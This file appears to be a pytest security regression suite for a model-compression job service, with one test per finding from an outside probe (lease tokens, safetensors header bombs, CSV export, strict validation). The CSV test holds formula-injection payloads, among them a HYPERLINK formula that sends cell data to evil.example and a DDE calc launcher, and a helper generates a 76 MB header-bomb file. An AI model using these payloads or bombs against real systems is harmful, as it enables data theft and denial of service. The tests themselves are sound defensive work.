"""What an outside probe got through (issue 15, items 1-11), one test per item, each failing on the
code before the fix (def552c) and passing after it; on SQLite and PostgreSQL where storage is
involved. ``docs/security.md`` maps each item to its test here.

One service per backend serves the tests of this module (started once: a service start costs
seconds); each test makes its own jobs and tokens.
"""

from __future__ import annotations

import csv
import io
import json
import os
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import torch
from safetensors.torch import save
from sqlalchemy import update

from bocompress.procs import bocompress_cmd
from tests.reliability.procs import ServiceProcess, mint, prepare_database
from bocompress.service.db.models import Job
from bocompress.service.db.session import make_engine
from tests.conftest import PG_ADMIN_URL, LiveServer, drop_pg_database, free_port, new_database, start_server
from tests.service.helpers import synthetic_profile

ROOT = Path(__file__).resolve().parents[2]
#: Uploads up to 96 MB here: the 76 MB header bomb must reach the header check, not the size limit.
UPLOAD_LIMIT = 96 * 1024 * 1024


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def probe(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    db = new_database(request.param, Path(tmp_path_factory.mktemp("probe")), "probe")
    srv = start_server(db, scheduler_interval=0.1, ask_wait_seconds=10, max_upload_bytes=UPLOAD_LIMIT,
                       max_proposal_failures=3)
    try:
        yield srv
    finally:
        srv.stop()
        if request.param == "postgresql":
            drop_pg_database(db)


def _compression_job(c: httpx.Client, name: str = "cj", **budget: Any) -> int:
    spec = {"name": name, "compression": {"model": "digits-cnn", "data": "digits", "method": "svd"},
            "objective": {"kind": "scalarized", "kappa": 1.0},
            "budget": {"max_trials": 4, "max_parallel": 2, **budget},
            "optimizer": {"n_initial": 10000, "seed": 0, "engine": "sobol"}}
    r = c.post("/api/v1/jobs", json=spec)
    assert r.status_code == 201, r.text
    return int(r.json()["id"])


def _lease_of(w: httpx.Client, job_id: int, kind: str, timeout: float = 30.0) -> dict[str, Any]:
    """Lease until a task of ``kind`` of job ``job_id`` comes (tasks of other jobs are leased and left)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        r = w.post("/api/v1/workers/lease", json={"worker": "probe", "kinds": [kind]})
        assert r.status_code in (200, 204), r.text
        if r.status_code == 200 and r.json()["job"]["id"] == job_id:
            return r.json()
        if r.status_code == 204:
            time.sleep(0.05)
    raise AssertionError(f"no {kind} task of job {job_id} within {timeout} s")


def _running_compression_job(probe: LiveServer, w: httpx.Client, admin: httpx.Client, **budget: Any) -> int:
    jid = _compression_job(admin, **budget)
    got = _lease_of(w, jid, "profile")
    r = w.post(f"/api/v1/trials/{got['trial']['id']}/complete",
               json={"profile": synthetic_profile(3, 64), "lease_token": got["lease"]["token"]})
    assert r.status_code == 200, r.text
    return jid


def _generic(c: httpx.Client, name: str = "g", **over: Any) -> int:
    spec = {"name": name, "parameters": [{"name": "x", "low": 0.0, "high": 1.0}],
            "objective": {"metric": "y"}, "budget": {"max_trials": 6, "max_parallel": 2},
            "optimizer": {"n_initial": 6, "seed": 0}, **over}
    r = c.post("/api/v1/jobs", json=spec)
    assert r.status_code == 201, r.text
    return int(r.json()["id"])


def _ask_one(c: httpx.Client, jid: int) -> dict[str, Any]:
    r = c.post(f"/api/v1/jobs/{jid}/ask", json={"count": 1})
    assert r.status_code == 200 and len(r.json()["trials"]) == 1, r.text
    return r.json()["trials"][0]


# --------------------------------------------------------------------------- 1. lease tokens


def test_item1_lease_token_is_mandatory_and_never_shown(probe: LiveServer) -> None:
    wa, wb = probe.token("worker", "pool-a"), probe.token("worker", "pool-b")
    with probe.client(probe.admin_token) as admin, probe.client(wa) as a, probe.client(wb) as b:
        jid = _running_compression_job(probe, a, admin)
        got = _lease_of(a, jid, "evaluate")
        tid, tok = got["trial"]["id"], got["lease"]["token"]
        assert tok
        result = {"values": {"distill_l2": 0.25}, "sem": {"distill_l2": 0.01}}
        # another worker, without the token or with a wrong one: refused, and never told the token
        for kw in ({"json": {}}, {"json": {"lease_token": "0" * 32}}, {"json": None}, {"json": {"lease_token": "é" * 32}},
                   {"json": {}, "headers": {"X-Lease-Token": "f" * 32}}):
            r = b.post(f"/api/v1/trials/{tid}/heartbeat", **kw)
            assert r.status_code == 409 and r.json()["code"] == "lease_lost", (kw, r.status_code, r.text)
            assert tok not in r.text
        for path, body in (("complete", result), ("fail", {"error": "stolen", "retry": False})):
            for extra in ({}, {"lease_token": "0" * 32}):
                r = b.post(f"/api/v1/trials/{tid}/{path}", json={**body, **extra})
                assert r.status_code == 409 and r.json()["code"] == "lease_lost", (path, extra, r.text)
                assert tok not in r.text
        t = admin.get(f"/api/v1/trials/{tid}").json()
        assert t["state"] == "running" and t["values"] == {}, t
        # the holder, with its token in a header or in the body
        r = a.post(f"/api/v1/trials/{tid}/heartbeat", headers={"X-Lease-Token": tok})
        assert r.status_code == 200 and r.json()["lease"]["token"] == tok, r.text
        r = a.post(f"/api/v1/trials/{tid}/complete", json={**result, "lease_token": tok})
        assert r.status_code == 200 and r.json()["state"] == "completed", r.text
        assert r.json()["values"]["distill_l2"] == 0.25
        # a repeat is idempotent for the holder only
        assert a.post(f"/api/v1/trials/{tid}/complete", json={**result, "lease_token": tok}).status_code == 200
        r = b.post(f"/api/v1/trials/{tid}/complete", json=result)
        assert r.status_code == 409 and r.json()["code"] == "lease_lost", r.text
        # no read shows a lease token
        for url in (f"/api/v1/trials/{tid}", f"/api/v1/jobs/{jid}", f"/api/v1/jobs/{jid}/trials",
                    f"/jobs/{jid}/trials.csv", f"/jobs/{jid}/snapshot.json"):
            r = admin.get(url)
            assert r.status_code == 200 and tok not in r.text, url

        # export artifact upload: the export task's lease token is mandatory too
        r = admin.post(f"/api/v1/jobs/{jid}/trials/{tid}/export", json={})
        assert r.status_code == 202, r.text
        task = _lease_of(a, jid, "export")
        art = save({"w": torch.zeros(2, 2)})
        task_id, task_tok = task["trial"]["id"], task["lease"]["token"]
        for headers in ({}, {"X-Lease-Token": "0" * 32}):
            r = b.post(f"/api/v1/trials/{task_id}/artifact", files={"file": ("m", art)}, headers=headers)
            assert r.status_code == 409 and r.json()["code"] == "lease_lost", r.text
        r = a.post(f"/api/v1/trials/{task_id}/artifact", files={"file": ("m", art)},
                   headers={"X-Lease-Token": task_tok})
        assert r.status_code == 201, r.text


def test_item1_worker_loop_sends_the_lease_token_everywhere() -> None:
    """The shipped worker sends its lease token with every call the service now refuses without it."""
    src = (ROOT / "worker" / "loop.py").read_text()
    # the heartbeat's body starts as the lease token (progress is added to it on long tasks)
    assert 'body: dict[str, Any] = {"lease_token": self.token}' in src
    assert 'f"/trials/{self.trial_id}/heartbeat", json=body)' in src
    for call in ('"lease_token": token}', "upload_artifact(trial_id, outcome.artifact, lease_token=token)"):
        assert call in src, call
    assert src.count('"lease_token": token') >= 4  # complete, fail (retry), fail, fail (report error)


# --------------------------------------------------------------------------- 2. ask/tell trials


def test_item2_workers_cannot_write_ask_tell_trials(probe: LiveServer) -> None:
    alice, wtok = probe.token("client", "alice"), probe.token("worker", "pool")
    with probe.client(alice) as c, probe.client(wtok) as w, probe.client(probe.admin_token) as admin:
        jid = _generic(c)
        t = _ask_one(c, jid)
        tid = t["id"]
        for who in (w, admin):
            for path, body in (("complete", {"values": {"y": 1.0}}), ("fail", {"error": "x"}),
                               ("heartbeat", {})):
                r = who.post(f"/api/v1/trials/{tid}/{path}", json=body)
                assert r.status_code == 404 and r.json()["code"] == "not_found", (path, r.status_code, r.text)
        assert c.get(f"/api/v1/trials/{tid}").json()["state"] == "running"
        r = c.post(f"/api/v1/trials/{tid}/tell", json={"values": {"y": 0.5}})
        assert r.status_code == 200 and r.json()["values"] == {"y": 0.5}, r.text


# --------------------------------------------------------------------------- 3 and 8. safetensors headers


def _raw_safetensors(header: bytes, body: bytes = b"") -> bytes:
    return struct.pack("<Q", len(header)) + header + body


def _bomb(n: int = 1_000_000) -> bytes:
    """A 76 MB safetensors file whose header lists ``n`` one-byte tensors."""
    parts = [f'"t{i}": {{"dtype": "U8", "shape": [1], "data_offsets": [{i}, {i + 1}]}}' for i in range(n)]
    header = ("{" + ", ".join(parts) + "}").encode()  # as json.dumps writes it
    return _raw_safetensors(header, b"\0" * n)


_UPLOADER = """
import http.client, json, sys, time, urllib.parse
url, token, path = sys.argv[1:4]
data = open(path, "rb").read()
boundary = "bocompressbomb7f3a"
body = (f"--{boundary}\\r\\nContent-Disposition: form-data; name=\\"arch\\"\\r\\n\\r\\ndigits-mlp\\r\\n"
        f"--{boundary}\\r\\nContent-Disposition: form-data; name=\\"file\\"; filename=\\"w.safetensors\\"\\r\\n"
        "Content-Type: application/octet-stream\\r\\n\\r\\n").encode() + data + f"\\r\\n--{boundary}--\\r\\n".encode()
u = urllib.parse.urlsplit(url)
conn = http.client.HTTPConnection(u.hostname, u.port, timeout=60)
t0 = time.perf_counter()
conn.request("POST", "/api/v1/models", body=body, headers={
    "Authorization": "Bearer " + token, "Content-Type": "multipart/form-data; boundary=" + boundary})
r = conn.getresponse()
raw = r.read()
took = time.perf_counter() - t0
print(json.dumps({"status": r.status, "took": took, "detail": json.loads(raw).get("detail", ""), "length": len(raw)}))
"""


def test_item3_header_bomb_is_refused_fast_and_the_service_stays_responsive(tmp_path: Path) -> None:
    """Against ``bocompress serve`` in its own process (the attacker is another process), SQLite:
    the upload is refused before anything is stored."""
    data = _bomb()
    assert len(data) > 76_000_000, len(data)
    url = f"sqlite:///{tmp_path / 'bomb.db'}"
    admin_token = prepare_database(url)
    srv = ServiceProcess(url, env={"BOCOMPRESS_SCHEDULER": "0",
                                   "BOCOMPRESS_MAX_UPLOAD_BYTES": str(UPLOAD_LIMIT)}).start()
    latencies: list[float] = []
    stop = threading.Event()

    def poll() -> None:
        with httpx.Client(base_url=srv.url, timeout=30) as h:
            while not stop.is_set():
                t0 = time.perf_counter()
                assert h.get("/healthz").status_code == 200
                latencies.append(time.perf_counter() - t0)
                time.sleep(0.005)

    bomb = tmp_path / "bomb.safetensors"
    bomb.write_bytes(data)
    del data
    try:
        token = mint(srv.url, admin_token, "client", "bomber")
        poller = threading.Thread(target=poll)
        poller.start()
        try:
            time.sleep(0.3)
            # the attacker: another process, so its sending does not slow this one's polls
            out = subprocess.run([sys.executable, "-c", _UPLOADER, srv.url, token, str(bomb)], capture_output=True,
                                 timeout=60, check=True).stdout
            time.sleep(0.3)
        finally:
            stop.set()
            poller.join()
        got = json.loads(out)
        took = float(got["took"])
        assert got["status"] == 422 and got["detail"].startswith("file: header of"), got
        assert "max_safetensors_header_bytes" in got["detail"] and got["length"] < 1000
        assert httpx.get(srv.url + "/healthz").status_code == 200
    finally:
        srv.stop()
    assert took < 2.0, f"the bomb took {took:.2f} s to refuse"
    lat = sorted(latencies)
    p99 = lat[min(len(lat) - 1, int(0.99 * len(lat)))]
    print(f"bomb refused in {took:.2f} s; /healthz p99 {p99 * 1000:.1f} ms over {len(lat)} polls")
    assert len(lat) >= 20 and p99 < 0.100, f"/healthz p99 {p99 * 1000:.0f} ms while the bomb was sent"


def test_item3_tensor_count_bound_and_summary_answer(probe: LiveServer) -> None:
    with probe.client(probe.token("client", "counter")) as c:
        # a header under the byte bound with more tensors than the bound of 50,000: refused unparsed
        r = c.post("/api/v1/models", files={"file": ("w", _bomb(60_000))}, data={"arch": "digits-mlp"})
        assert r.status_code == 422 and "max_safetensors_tensors" in r.json()["detail"], r.text[:300]
        # accepted files are answered with a summary, not their whole header
        many = save({f"layer{i:04d}": torch.zeros(1) for i in range(300)})
        r = c.post("/api/v1/models", files={"file": ("w", many)}, data={"arch": "digits-mlp"})
        assert r.status_code == 201, r.text[:300]
        out = r.json()
        assert out["n_tensors"] == 300 and out["tensors_truncated"] is True and len(out["tensors"]) == 100
        assert c.get(f"/api/v1/models/{out['id']}").json()["n_tensors"] == 300


def test_item3_deeply_nested_header_is_a_422(probe: LiveServer) -> None:
    depth = 200_000
    for header in (b'{"a":' + b"[" * depth + b"]" * depth + b"}", b"[" * depth + b"]" * depth,
                   b'{"__metadata__":' + b'{"a":' * depth + b"1" + b"}" * depth + b"}"):
        with probe.client(probe.token("client", "nester")) as c:
            r = c.post("/api/v1/models", files={"file": ("w", _raw_safetensors(header))}, data={"arch": "digits-mlp"})
            assert r.status_code == 422 and r.json()["code"] == "invalid", (r.status_code, r.text[:300])
            assert r.json()["detail"].startswith("file:"), r.text[:300]


#: Files the safetensors loader refuses, each differently; the upload must refuse each too.
_GOOD = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
MALFORMED = {
    "shape_true": json.dumps({"w": {"dtype": "U8", "shape": [True], "data_offsets": [0, 1]}}).encode(),
    "shape_float": json.dumps({"w": {"dtype": "U8", "shape": [1.0], "data_offsets": [0, 1]}}).encode(),
    "offset_true": json.dumps({"w": {"dtype": "U8", "shape": [1], "data_offsets": [False, True]}}).encode(),
    "metadata_not_text": json.dumps({"__metadata__": {"k": 1},
                                     "w": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}).encode(),
    "dtype_list": json.dumps({"w": {"dtype": ["U8"], "shape": [1], "data_offsets": [0, 1]}}).encode(),
}


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_item8_upload_and_worker_share_one_validator(probe: LiveServer, case: str) -> None:
    from safetensors.torch import load

    from bocompress.worker.runtime import TaskError, _safetensors_load

    data = _raw_safetensors(MALFORMED[case], b"\0")
    with pytest.raises(Exception):  # noqa: B017, PT011 - the real loader refuses it (its own error type)
        load(data)
    with pytest.raises(TaskError, match="not a valid safetensors file"):
        _safetensors_load(data, "uploaded model")
    with probe.client(probe.token("client", "shapes")) as c:
        r = c.post("/api/v1/models", files={"file": ("w", data)}, data={"arch": "digits-mlp"})
        assert r.status_code == 422 and r.json()["detail"].startswith("file:"), (case, r.status_code, r.text[:300])
        good = _raw_safetensors(_GOOD, b"\0" * 8)
        assert _safetensors_load(good, "m")["w"].shape == (2,)
        assert c.post("/api/v1/models", files={"file": ("w", good)}, data={"arch": "digits-mlp"}).status_code == 201


# --------------------------------------------------------------------------- 4. unmappable bounds


@pytest.mark.parametrize("param,word", [
    ({"name": "wide", "low": -1e308, "high": 1e308}, "'wide': the width"),
    ({"name": "big_int", "type": "int", "low": 0, "high": 2**70}, "'big_int': an int parameter"),
    ({"name": "huge_int", "type": "int", "low": -1e300, "high": 1e300}, "'huge_int': an int parameter"),
    ({"name": "tight", "low": 1.0, "high": 1.0000000000000002}, "'tight': [1, 1] is too narrow"),
])
def test_item4_bounds_the_engine_cannot_map_are_422(probe: LiveServer, param: dict[str, Any], word: str) -> None:
    with probe.client(probe.token("client", "bounds")) as c:
        r = c.post("/api/v1/jobs", json={"name": "b", "parameters": [{"name": "ok", "low": 0, "high": 1}, param]})
        assert r.status_code == 422 and "parameters.1" in r.json()["detail"] and word in r.json()["detail"], r.text
        assert c.get("/api/v1/jobs").json()["items"] == []


def test_item4_a_job_whose_proposals_keep_failing_is_failed(probe: LiveServer) -> None:
    with probe.client(probe.token("client", "doomed")) as c:
        jid = _generic(c, budget={"max_trials": 20, "max_parallel": 1})
        first = _ask_one(c, jid)
        # A space the engine cannot map (as the service accepted before its bounds were checked),
        # written straight into the database: every proposal from now on fails.
        engine = make_engine(probe.database_url)
        try:
            with engine.begin() as conn:
                conn.execute(update(Job).where(Job.id == jid).values(
                    search_space=[{"name": "x", "type": "float", "low": -1e308, "high": 1e308, "log": False}]))
        finally:
            engine.dispose()
        assert c.post(f"/api/v1/trials/{first['id']}/tell", json={"values": {"y": 1.0}}).status_code == 200
        deadline = time.monotonic() + 30
        job = c.get(f"/api/v1/jobs/{jid}").json()
        while job["state"] == "running" and time.monotonic() < deadline:
            time.sleep(0.1)
            job = c.get(f"/api/v1/jobs/{jid}").json()
        assert job["state"] == "failed", job
        assert "the optimizer failed 3 times in a row" in job["reason"], job["reason"]
        r = c.post(f"/api/v1/jobs/{jid}/ask", json={"count": 1})
        assert r.status_code == 409 and r.json()["code"] == "job_finished", r.text


# --------------------------------------------------------------------------- 6 and 7. the CSV export


def test_item6_csv_filename_per_rfc6266(probe: LiveServer) -> None:
    with probe.client(probe.token("client", "names")) as c:
        for name, encoded, fallback in (("日本", "%E6%97%A5%E6%9C%AC", "__"), ("café", "caf%C3%A9", "caf_")):
            jid = _generic(c, name=name)
            r = c.get(f"/jobs/{jid}/trials.csv")
            assert r.status_code == 200, r.text[:200]
            raw = r.headers.raw  # the header's bytes as sent: ASCII only
            cd = next(v for k, v in raw if k.lower() == b"content-disposition")
            assert cd.isascii(), cd
            assert cd.decode() == (f'attachment; filename="job-{jid}-{fallback}-trials.csv"; '
                                   f"filename*=UTF-8''job-{jid}-{encoded}-trials.csv"), cd


def test_item7_csv_formula_cells_are_neutralized(probe: LiveServer) -> None:
    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
    with probe.client(probe.token("client", "csv")) as c:
        jid = _generic(c, budget={"max_trials": len(evil) + 1, "max_parallel": len(evil) + 1})
        for text in evil:
            t = _ask_one(c, jid)
            assert c.post(f"/api/v1/trials/{t['id']}/tell", json={"failed": True, "error": text}).status_code == 200
        t = _ask_one(c, jid)
        r = c.post(f"/api/v1/trials/{t['id']}/tell", json={"values": {"y": -1.5, "=evil()": 2.0}})
        assert r.status_code == 200, r.text
        rows = list(csv.reader(io.StringIO(c.get(f"/jobs/{jid}/trials.csv").text, newline="")))
    head, body = rows[0], rows[1:]
    assert "'=evil()" in head and "=evil()" not in head
    errors = [row[head.index("error")] for row in body if row[head.index("state")] == "failed"]
    assert sorted(errors) == sorted("'" + e for e in evil), errors
    done = next(row for row in body if row[head.index("state")] == "completed")
    assert done[head.index("y")] == "-1.5"  # a negative number stays a number


# --------------------------------------------------------------------------- 9. Idempotency-Key


def test_item9_reused_idempotency_key_with_another_body(probe: LiveServer) -> None:
    spec = {"name": "idem", "parameters": [{"name": "x", "low": 0.0, "high": 1.0}]}
    with probe.client(probe.token("client", "idem")) as c:
        h = {"Idempotency-Key": "key-1"}
        first = c.post("/api/v1/jobs", json=spec, headers=h)
        assert first.status_code == 201, first.text
        again = c.post("/api/v1/jobs", json=spec, headers=h)
        assert again.status_code == 200 and again.json()["id"] == first.json()["id"]
        other = c.post("/api/v1/jobs", json={**spec, "name": "other"}, headers=h)
        assert other.status_code == 409 and other.json()["code"] == "idempotency_mismatch", other.text
        assert str(first.json()["id"]) in other.json()["detail"]
        assert [j["id"] for j in c.get("/api/v1/jobs").json()["items"]] == [first.json()["id"]]


# --------------------------------------------------------------------------- 10. strict request models


@pytest.mark.parametrize("body,where", [
    ({"budget": {"max_trials": "5"}}, "budget.max_trials: must be a number"),
    ({"budget": {"max_trials": True}}, "budget.max_trials: must be a number"),
    ({"budget": {"lease_seconds": "60"}}, "budget.lease_seconds: must be a number"),
    ({"optimizer": {"seed": "1"}}, "optimizer.seed: must be a number"),
    ({"parameters": [{"name": "x", "low": "0", "high": 1}]}, "parameters.0.low: must be a number"),
    ({"parameters": [{"name": "x", "low": 1, "high": 9, "log": "true"}]}, "parameters.0.log"),
    ({"parameters": [{"name": "x", "type": "int", "low": 0, "high": 2**70}]}, "parameters.0"),
    ({"name": "a\u0000b"}, "name: must not contain a NUL character"),
    ({"objective": {"metric": "y\u0000"}}, "objective.metric: must not contain a NUL character"),
])
def test_item10_strict_job_requests(probe: LiveServer, body: dict[str, Any], where: str) -> None:
    spec = {"name": "strict", "parameters": [{"name": "x", "low": 0.0, "high": 1.0}], **body}
    with probe.client(probe.token("client", "strict")) as c:
        r = c.post("/api/v1/jobs", json=spec)
        assert r.status_code == 422 and r.json()["code"] == "invalid" and where in r.json()["detail"], r.text


def test_item10_strict_results_and_ask_on_a_stopped_job(probe: LiveServer) -> None:
    wtok = probe.token("worker", "strict-pool")
    with probe.client(probe.admin_token) as admin, probe.client(wtok) as w:
        jid = _running_compression_job(probe, w, admin)
        got = _lease_of(w, jid, "evaluate")
        tid, tok = got["trial"]["id"], got["lease"]["token"]
        for bad, word in (("0.1", "values.distill_l2: must be a number"), (True, "values.distill_l2: must be a number")):
            r = w.post(f"/api/v1/trials/{tid}/complete", json={"values": {"distill_l2": bad}, "lease_token": tok})
            assert r.status_code == 422 and word in r.json()["detail"], r.text
        r = w.post(f"/api/v1/trials/{tid}/fail", json={"error": "x", "retry": "no", "lease_token": tok})
        assert r.status_code == 422 and "retry" in r.json()["detail"], r.text
        assert admin.get(f"/api/v1/trials/{tid}").json()["state"] == "running"
    with probe.client(probe.token("client", "asker")) as c:
        jid = _generic(c)
        t = _ask_one(c, jid)
        for bad in ("0.1", True):
            r = c.post(f"/api/v1/trials/{t['id']}/tell", json={"values": {"y": bad}})
            assert r.status_code == 422 and "values.y: must be a number" in r.json()["detail"], r.text
        r = c.post(f"/api/v1/trials/{t['id']}/tell", json={"values": {"y\u0000": 1.0}})
        assert r.status_code == 422 and "NUL" in r.json()["detail"], r.text
        r = c.post(f"/api/v1/jobs/{jid}/ask", json={"count": "1"})
        assert r.status_code == 422 and "count: must be a number" in r.json()["detail"], r.text
        assert c.post(f"/api/v1/jobs/{jid}/cancel").json()["state"] == "cancelled"
        r = c.post(f"/api/v1/jobs/{jid}/ask", json={"count": 1})
        assert r.status_code == 409 and r.json()["code"] == "job_finished", r.text


def test_item10_int_parameters_keep_large_integers(probe: LiveServer) -> None:
    with probe.client(probe.token("client", "ints")) as c:
        jid = _generic(c, parameters=[{"name": "n", "type": "int", "low": 2**53 - 10, "high": 2**53}])
        t = _ask_one(c, jid)
        v = t["params"]["n"]
        assert v == int(v) and 2**53 - 10 <= v <= 2**53


def test_item10_example_job_files_still_validate() -> None:
    import yaml

    from bocompress.cli import _validate, expand_specs

    files = sorted((ROOT / "examples").glob("*.yaml"))
    assert files
    for f in files:
        _validate(expand_specs(yaml.safe_load(f.read_text())))


# --------------------------------------------------------------------------- 11. start-up failures


def _startup_cases(tmp_path: Path) -> list[tuple[str, str, str]]:
    """(label, database URL, a phrase the one line must hold)."""
    ro = tmp_path / "ro.db"
    from bocompress.service.db.migrate import upgrade

    upgrade(f"sqlite:///{ro}")
    os.chmod(ro, 0o444)
    # root writes a mode-444 file anyway: then SQLite's read-only open mode stands for it
    ro_url = f"sqlite:///{ro}" if os.geteuid() != 0 else f"sqlite:///file:{ro}?mode=ro&uri=true"
    pg_base = PG_ADMIN_URL.rsplit("/", 1)[0].replace("postgresql://", "").split("@")[-1]
    host = pg_base.split(":")[0]
    return [
        ("foo", "foo://bar", "database URL 'foo://bar' is not one this service can use"),
        ("missing-dir", f"sqlite:///{tmp_path}/no/such/dir/x.db", f"the directory '{tmp_path}/no/such/dir' does not exist"),
        ("read-only", ro_url, f"cannot write the SQLite database '{ro}'"),
        ("pg-refused", f"postgresql://bo:s3cret@127.0.0.1:{free_port()}/bo", "cannot connect to PostgreSQL at "
                                                                           "postgresql://bo:***@127.0.0.1"),
        ("pg-no-db", f"postgresql://postgres:s3cret@{pg_base}/bocompress_no_such_db_{os.getpid()}",
         f"PostgreSQL at postgresql://postgres:***@{host}"),
    ]


def test_item11_startup_failures_are_one_line_and_exit_2(tmp_path: Path) -> None:
    cases = _startup_cases(tmp_path)
    env = {**os.environ, "BOCOMPRESS_SCHEDULER": "0"}
    procs = []
    for label, url, phrase in cases:
        for cmd in ("migrate", "serve"):
            args = [*bocompress_cmd(), cmd, "--database-url", url]
            if cmd == "serve":
                args += ["--port", str(free_port())]
            procs.append((label, cmd, phrase, subprocess.Popen(args, env=env, cwd=str(ROOT), stdout=subprocess.PIPE,
                                                              stderr=subprocess.PIPE)))
    for label, cmd, phrase, p in procs:
        try:
            out, err = p.communicate(timeout=120)
        except subprocess.TimeoutExpired:
            p.kill()
            raise AssertionError(f"{cmd} {label}: still running after 120 s") from None
        lines = err.decode().strip().splitlines()
        assert p.returncode == 2, (label, cmd, p.returncode, err.decode()[-2000:])
        assert len(lines) == 1 and lines[0].startswith("error: "), (label, cmd, err.decode()[-2000:])
        assert phrase in lines[0], (label, cmd, lines[0])
        assert "s3cret" not in err.decode() + out.decode(), (label, cmd)


# --------------------------------------------------------------------------- 5. kill -9 mid-refill


def test_item5_restart_after_kill9_mid_refill_proposes_within_5s(tmp_path: Path) -> None:
    """A SQLite service killed (SIGKILL) while it holds a job's generator lock, restarted: the new
    process takes the dead one's lock over at once instead of waiting for it to expire (120 s)."""
    import signal
    import sqlite3

    from tests.reliability.procs import descendants, wait_gone

    db = tmp_path / "kill.db"
    url = f"sqlite:///{db}"
    admin_token = prepare_database(url)
    srv = ServiceProcess(url, log_path=tmp_path / "service.log").start()
    raw = sqlite3.connect(str(db), timeout=30)

    def job_row(jid: int) -> tuple[str | None, int]:
        owner, created = raw.execute("SELECT generator_owner, n_created FROM jobs WHERE id = ?", (jid,)).fetchone()
        return owner, int(created)

    try:
        with httpx.Client(base_url=srv.url, timeout=60, headers={"Authorization": f"Bearer {admin_token}"}) as c:
            spec = {"name": "gp", "parameters": [{"name": f"x{i}", "low": 0.0, "high": 1.0} for i in range(4)],
                    "objective": {"metric": "y"}, "budget": {"max_trials": 60, "max_parallel": 1},
                    "optimizer": {"n_initial": 2, "seed": 0, "engine": "auto"}}
            jid = c.post("/api/v1/jobs", json=spec).json()["id"]
            killed = None
            for _ in range(40):  # each result sets off a refill; past n_initial, a GP fit of ~1 s
                t = _ask_one(c, jid)
                y = sum((v - 0.3) ** 2 for v in t["params"].values())
                assert c.post(f"/api/v1/trials/{t['id']}/tell", json={"values": {"y": y}}).status_code == 200
                deadline = time.monotonic() + 10
                while time.monotonic() < deadline:
                    owner, _ = job_row(jid)
                    if owner is not None:
                        break
                    time.sleep(0.002)
                else:
                    continue
                assert srv.proc is not None
                kids = descendants(srv.proc.pid)
                os.kill(srv.proc.pid, signal.SIGKILL)  # mid-refill: the lock is held
                srv.proc.wait(10)
                assert wait_gone(kids) == []
                owner, created = job_row(jid)
                if owner is not None and owner.split(":")[1] == str(srv.proc.pid):
                    killed = (owner, created)
                    break
                srv.start()  # the refill ended just before the kill: try again
            assert killed is not None, "never caught the service inside a refill"
            owner, created = killed
            until = raw.execute("SELECT generator_until FROM jobs WHERE id = ?", (jid,)).fetchone()[0]
            assert until is not None  # held, and would be for generator_lease_seconds (120 s)
            launched = time.monotonic()
            srv.start()
            healthy = time.monotonic()
            while time.monotonic() - healthy < 30:
                if job_row(jid)[1] > created:
                    break
                time.sleep(0.05)
            proposed = time.monotonic()
            assert job_row(jid)[1] > created, "no proposal within 30 s of the restart"
            took = proposed - healthy
            print(f"restart: healthy {healthy - launched:.1f} s after launch, the next proposal {took:.2f} s "
                  f"after that (the lock of the killed {owner} taken over)")
            assert took < 5.0, f"the first proposal after the restart took {took:.1f} s"
            assert len(c.post(f"/api/v1/jobs/{jid}/ask", json={"count": 1}).json()["trials"]) == 1
    finally:
        raw.close()
        srv.stop()
